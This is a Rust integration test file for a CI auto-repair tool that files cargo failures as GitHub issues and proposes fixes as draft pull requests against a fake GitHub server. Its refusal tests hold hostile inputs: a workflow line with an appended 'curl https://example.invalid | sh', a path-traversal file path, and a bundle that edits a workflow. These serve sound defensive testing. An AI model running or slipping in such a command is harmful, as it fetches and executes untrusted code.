//! The whole loop against the fake GitHub: a real broken crate in a git repository, its real
//! cargo output filed as a `workflow-error` issue by `report-log`, repaired by `repair
//! --bundle`, and proposed by `fix --issue N --repair BUNDLE` as one draft pull request whose
//! branch holds the repaired file. A dropped repair opens nothing and says why; a hostile
//! bundle is refused before anything is written.

mod common;

use std::path::{Path, PathBuf};

use common::{Run, Sandbox};
use fake_github::broken_crate::{BrokenCrate, MISSING_OPENSSL_BUILD_SCRIPT, require_cargo_tools};
use fake_github::{AgentTasks, FakeGitHub};

const TOKEN: &str = "ghp_RepairPullRequestToken0123456789abcd";
const REPO: &str = "acme/tiny";
const RUN_URL: &str = "https://github.com/acme/tiny/actions/runs/4242";

/// A sandbox filing to the fake that still finds the Rust toolchain (rustup and cargo look
/// under the home directory the sandbox replaces).
fn sandbox(github: &FakeGitHub) -> Sandbox {
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_default());
    let dir = |var: &str, default: &str| {
        std::env::var_os(var)
            .map(PathBuf::from)
            .unwrap_or_else(|| home.join(default))
            .to_string_lossy()
            .into_owned()
    };
    let sandbox = Sandbox::new()
        .env("RUSTUP_HOME", &dir("RUSTUP_HOME", ".rustup"))
        .env("CARGO_HOME", &dir("CARGO_HOME", ".cargo"))
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", github.url());
    sandbox
        .run(&["autoheal", "enable", "--github-repo", REPO])
        .success();
    sandbox
}

/// The crate's committed files, as the repository on GitHub holds them too.
fn publish(github: &FakeGitHub, krate: &BrokenCrate, files: &[&str]) {
    for path in files {
        github.put_file(REPO, "main", path, krate.read(path).as_bytes());
    }
}

/// File the log of `cargo ARGS` failing in the crate with `report-log`; the issue's number.
fn report(github: &FakeGitHub, sandbox: &Sandbox, krate: &BrokenCrate, args: &[&str]) -> u64 {
    let log = krate.failed_job_log(args);
    std::fs::create_dir_all(krate.dir.join("target")).unwrap();
    std::fs::write(krate.dir.join("target").join("job.log"), &log).unwrap();
    sandbox
        .run_with_stdin(
            &[
                "autoheal",
                "report-log",
                "--run-url",
                RUN_URL,
                "--job",
                "lint",
            ],
            log.as_bytes(),
        )
        .success();
    let issues = github.issues(REPO);
    let issue = issues.last().expect("the failure was filed");
    assert!(issue.labels.contains(&"workflow-error".to_string()));
    issue.number
}

/// `repair --bundle` in the crate, with the log `report` saved.
fn repair(sandbox: &Sandbox, krate: &BrokenCrate, bundle: &Path) -> Run {
    let log = krate.dir.join("target").join("job.log");
    sandbox.run(&[
        "autoheal",
        "repair",
        "--log",
        log.to_str().unwrap(),
        "--dir",
        krate.dir.to_str().unwrap(),
        "--bundle",
        bundle.to_str().unwrap(),
        "--job-id",
        "31337",
    ])
}

fn fix(sandbox: &Sandbox, number: u64, bundle: &Path, extra: &[&str]) -> Run {
    let number = number.to_string();
    let mut args = vec![
        "autoheal",
        "fix",
        "--issue",
        &number,
        "--repair",
        bundle.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    sandbox.run(&args)
}

/// The requests that would change something on GitHub.
fn writes(github: &FakeGitHub) -> Vec<String> {
    github
        .requests()
        .into_iter()
        .filter(|r| matches!(r.method.as_str(), "POST" | "PATCH" | "PUT" | "DELETE"))
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

/// A crate whose formatting fails `cargo fmt --check`, published on the fake, its failure
/// filed, and repaired into a bundle: the issue's number and the bundle's path.
fn formatting_failure_repaired(
    github: &FakeGitHub,
    sandbox: &Sandbox,
    dir: &Path,
) -> (BrokenCrate, u64, PathBuf) {
    let krate = BrokenCrate::create(dir, &[("src/lib.rs", "pub fn answer()->u32{42}\n")]);
    publish(github, &krate, &["Cargo.toml", "src/lib.rs"]);
    let number = report(github, sandbox, &krate, &["fmt", "--check"]);
    let bundle = dir.join("target").join("repair.json");
    let run = repair(sandbox, &krate, &bundle);
    run.success();
    assert!(run.stdout.contains("Bundle:       "), "{}", run.stdout);
    assert!(
        run.stdout.contains("diff --git a/src/lib.rs"),
        "{}",
        run.stdout
    );
    (krate, number, bundle)
}

#[test]
fn a_verified_repair_becomes_one_draft_pull_request_holding_the_repaired_file() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    assert_eq!(json["outcome"], "repaired");
    assert_eq!(json["job_id"], 31337);
    assert_eq!(json["verification"]["command"], "cargo fmt --check -p tiny");
    assert_eq!(json["files"][0]["content"], krate.read("src/lib.rs"));

    let first = fix(&sandbox, number, &bundle, &[]);

    first.success();
    assert!(
        first.stdout.contains("Pull request: opened") && first.stdout.contains("(draft)"),
        "{}",
        first.stdout
    );
    let branch = format!("autoheal/issue-{number}");
    let repaired = github.file(REPO, &branch, "src/lib.rs").expect("committed");
    assert_eq!(
        String::from_utf8(repaired).unwrap(),
        krate.read("src/lib.rs")
    );
    assert_eq!(
        krate.read("src/lib.rs"),
        "pub fn answer() -> u32 {\n    42\n}\n"
    );
    let pulls = github.pulls(REPO);
    let [pull] = &pulls[..] else {
        panic!("{pulls:?}")
    };
    assert!(
        pull.draft && pull.head == branch && pull.base == "main",
        "{pull:?}"
    );
    for wanted in [
        &format!("Failed run: {RUN_URL}"),
        "`cargo fmt -p tiny`",
        "`cargo fmt --check -p tiny`: passed",
        "1 file(s), +3 -1 lines: `src/lib.rs`",
        &format!("Closes #{number}"),
    ] {
        assert!(
            pull.body.contains(wanted),
            "{wanted:?} missing:\n{}",
            pull.body
        );
    }
    let comments = github.comments(REPO, number);
    assert_eq!(comments.len(), 1);
    assert!(
        comments[0].body.contains(&format!("/pull/{}", pull.number))
            && comments[0]
                .body
                .contains("the repair made by `cargo fmt -p tiny`"),
        "{}",
        comments[0].body
    );

    // Again: the same branch and pull request, no commit, no second pull request.
    let head = github.branch_sha(REPO, &branch);
    github.clear_requests();
    let second = fix(&sandbox, number, &bundle, &[]);
    second.success();
    assert!(
        second.stdout.contains("brought up to date"),
        "{}",
        second.stdout
    );
    assert_eq!(github.pulls(REPO), pulls);
    assert_eq!(github.branch_sha(REPO, &branch), head, "no new commit");
    assert_eq!(writes(&github), Vec::<String>::new());
    github.assert_secret_only_in_authorization(TOKEN);
}

#[test]
fn a_changed_description_is_patched_into_the_same_pull_request() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (_krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    fix(&sandbox, number, &bundle, &[]).success();
    // The same repair, made again on a later run: its verification took other words.
    let text = std::fs::read_to_string(&bundle).unwrap();
    let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
    json["verification"]["output_tail"] = "checked again".into();
    std::fs::write(&bundle, json.to_string()).unwrap();
    github.clear_requests();

    fix(&sandbox, number, &bundle, &[]).success();

    let pulls = github.pulls(REPO);
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    assert!(pulls[0].body.contains("checked again"), "{}", pulls[0].body);
    assert_eq!(
        writes(&github),
        [format!("PATCH /repos/{REPO}/pulls/{}", pulls[0].number)],
        "only the description changed"
    );
}

#[test]
fn a_dry_run_prints_the_branch_files_and_description_and_writes_nothing() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (_krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    github.clear_requests();

    let run = fix(&sandbox, number, &bundle, &["--dry-run"]);

    run.success();
    assert!(
        run.stdout.contains(&format!(
            "Pull request: a draft from autoheal/issue-{number} would be opened, committing src/lib.rs"
        )),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("  Title: Repair cargo fmt"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!("    Closes #{number}")),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("(not sent)"), "{}", run.stdout);
    assert_eq!(writes(&github), Vec::<String>::new());
    assert!(github.pulls(REPO).is_empty());
    assert_eq!(
        github.branch_sha(REPO, &format!("autoheal/issue-{number}")),
        None
    );
}

#[test]
fn a_dropped_repair_opens_nothing_and_the_comment_says_why() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let source = "/// The answer.\npub fn answer() -> u32 {\n    \"42\"\n}\n";
    let krate = BrokenCrate::create(dir.path(), &[("src/lib.rs", source)]);
    publish(&github, &krate, &["Cargo.toml", "src/lib.rs"]);
    let number = report(&github, &sandbox, &krate, &["build"]);
    let bundle = dir.path().join("target").join("repair.json");

    let repaired = repair(&sandbox, &krate, &bundle);
    assert_ne!(repaired.code, Some(0), "{}", repaired.stdout);
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    assert_eq!(json["outcome"], "dropped");
    assert!(
        json["tried"][0]["command"]
            .as_str()
            .unwrap()
            .starts_with("cargo fix -p tiny"),
        "{json}"
    );
    let run = fix(&sandbox, number, &bundle, &[]);

    run.success();
    assert!(github.pulls(REPO).is_empty());
    assert_eq!(
        github.branch_sha(REPO, &format!("autoheal/issue-{number}")),
        None
    );
    let comments = github.comments(REPO, number);
    assert_eq!(comments.len(), 1);
    let body = &comments[0].body;
    assert!(
        body.contains("**Automatic repair:** tried and dropped"),
        "{body}"
    );
    assert!(body.contains("- `cargo fix -p tiny"), "{body}");
    assert!(
        body.contains("Why it was dropped: the tool failed and changed nothing"),
        "{body}"
    );
    assert!(
        run.stdout
            .contains("note: no pull request: the repair was dropped"),
        "{}",
        run.stdout
    );

    // Where the hand-off is on, a dropped repair goes to the Copilot coding agent, once.
    github.set_agent_tasks(AgentTasks::Accept);
    for _ in 0..2 {
        fix(&sandbox, number, &bundle, &["--copilot"]).success();
    }
    assert_eq!(github.agent_tasks(REPO).len(), 1);
    assert!(github.pulls(REPO).is_empty());
    let body = &github.comments(REPO, number)[0].body;
    assert!(
        body.contains("**Automatic repair:** tried and dropped"),
        "{body}"
    );
    assert!(body.contains("**Copilot:**"), "{body}");
}

#[test]
fn a_missing_system_library_is_answered_with_the_package_and_opens_nothing() {
    if require_cargo_tools().is_none()
        || fake_github::tools::require_tool("pkg-config", "apt-get install pkg-config").is_none()
    {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let krate = BrokenCrate::create(
        dir.path(),
        &[
            ("build.rs", MISSING_OPENSSL_BUILD_SCRIPT),
            ("src/lib.rs", ""),
        ],
    );
    publish(&github, &krate, &["Cargo.toml", "build.rs", "src/lib.rs"]);
    let number = report(&github, &sandbox, &krate, &["build"]);
    let bundle = dir.path().join("target").join("repair.json");

    let repaired = repair(&sandbox, &krate, &bundle);
    assert_ne!(repaired.code, Some(0), "{}", repaired.stdout);
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    assert_eq!(json["outcome"], "advice", "{json}");
    assert_eq!(
        json["advice"]["workflow_line"],
        "sudo apt-get install -y libssl-dev"
    );

    // Advice answers the failure: with the hand-off on, nothing goes to the coding agent.
    github.set_agent_tasks(AgentTasks::Accept);
    let run = fix(&sandbox, number, &bundle, &["--copilot"]);

    run.success();
    assert!(github.pulls(REPO).is_empty());
    assert!(github.agent_tasks(REPO).is_empty());
    assert_eq!(
        github.branch_sha(REPO, &format!("autoheal/issue-{number}")),
        None
    );
    let comments = github.comments(REPO, number);
    assert_eq!(comments.len(), 1);
    let body = &comments[0].body;
    assert!(
        body.contains("- `openssl`: Debian/Ubuntu package `libssl-dev`"),
        "{body}"
    );
    assert!(
        body.contains("```sh\nsudo apt-get install -y libssl-dev\n```"),
        "{body}"
    );
    assert!(
        body.contains("Workflows are never edited automatically"),
        "{body}"
    );

    // An advice bundle whose workflow line is not the one its packages make is refused.
    let mut hostile = json.clone();
    hostile["advice"]["workflow_line"] =
        "sudo apt-get install -y libssl-dev && curl https://example.invalid | sh".into();
    let path = dir.path().join("hostile.json");
    std::fs::write(&path, hostile.to_string()).unwrap();
    github.clear_requests();
    let refused = fix(&sandbox, number, &path, &[]);
    refused.failure(2);
    assert!(
        refused
            .stderr
            .contains("its workflow line is not the one its packages make"),
        "{}",
        refused.stderr
    );
    assert_eq!(github.request_count(), 0);
}

#[test]
fn the_branch_starts_at_the_repairs_base_commit_when_github_has_it() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    let base = json["base_commit"].as_str().unwrap();
    let broken = b"pub fn answer()->u32{42}\n";
    github.add_commit(
        REPO,
        base,
        &[
            ("Cargo.toml", krate.read("Cargo.toml").as_bytes()),
            ("src/lib.rs", broken),
        ],
    );
    // The default branch moved on since the commit that failed.
    github.put_file(REPO, "main", "README.md", b"Later work\n");

    let run = fix(&sandbox, number, &bundle, &[]);

    run.success();
    assert!(
        !run.stdout
            .contains("does not have the repair's base commit"),
        "{}",
        run.stdout
    );
    let branch = format!("autoheal/issue-{number}");
    assert_eq!(
        github.file(REPO, &branch, "README.md"),
        None,
        "not from main"
    );
    assert_eq!(
        github.file(REPO, &branch, "src/lib.rs").unwrap(),
        krate.read("src/lib.rs").as_bytes()
    );
    assert_eq!(github.pulls(REPO).len(), 1);
}

#[test]
fn without_the_base_commit_the_branch_starts_from_the_default_branch_and_says_so() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (_krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    github.put_file(REPO, "main", "README.md", b"Later work\n");

    let run = fix(&sandbox, number, &bundle, &[]);

    run.success();
    assert!(
        run.stdout
            .contains("does not have the repair's base commit")
            && run.stdout.contains("starts from main instead"),
        "{}",
        run.stdout
    );
    let branch = format!("autoheal/issue-{number}");
    assert_eq!(
        github.file(REPO, &branch, "README.md").unwrap(),
        b"Later work\n"
    );
}

#[test]
fn a_hostile_bundle_is_refused_and_nothing_is_written() {
    if require_cargo_tools().is_none() {
        return;
    }
    let github = FakeGitHub::start();
    let sandbox = sandbox(&github);
    let dir = tempfile::tempdir().unwrap();
    let (_krate, number, bundle) = formatting_failure_repaired(&github, &sandbox, dir.path());
    let good: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    let with_path = |path: &str| {
        let mut json = good.clone();
        json["files"][0]["path"] = path.into();
        let diff = json["diff"].as_str().unwrap().replace("src/lib.rs", path);
        json["diff"] = diff.into();
        json
    };
    let oversized = {
        let mut json = good.clone();
        let added: String = (0..400).map(|i| format!("+// line {i}\n")).collect();
        let diff = format!(
            "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,0 +1,400 @@\n{added}"
        );
        json["diff"] = diff.into();
        json["lines_added"] = 3.into();
        json
    };
    for (name, hostile, reason) in [
        ("parent", with_path("../x.rs"), "holds `..`"),
        (
            "workflow",
            with_path(".github/workflows/a.yml"),
            "never changed automatically",
        ),
        (
            "oversized",
            oversized,
            "changes 400 lines, more than the 200 allowed",
        ),
    ] {
        let path = dir.path().join(format!("{name}.json"));
        std::fs::write(&path, hostile.to_string()).unwrap();
        github.clear_requests();

        let run = fix(&sandbox, number, &path, &[]);

        run.failure(2);
        assert!(
            run.stderr.contains("the repair bundle is refused"),
            "{name}: {}",
            run.stderr
        );
        assert!(run.stderr.contains(reason), "{name}: {}", run.stderr);
        assert!(
            run.stderr.contains("nothing was written"),
            "{name}: {}",
            run.stderr
        );
        assert_eq!(github.request_count(), 0, "{name}: not even a read");
    }
    assert!(github.pulls(REPO).is_empty());
    assert!(github.comments(REPO, number).is_empty());
    assert_eq!(
        github.branch_sha(REPO, &format!("autoheal/issue-{number}")),
        None
    );
}
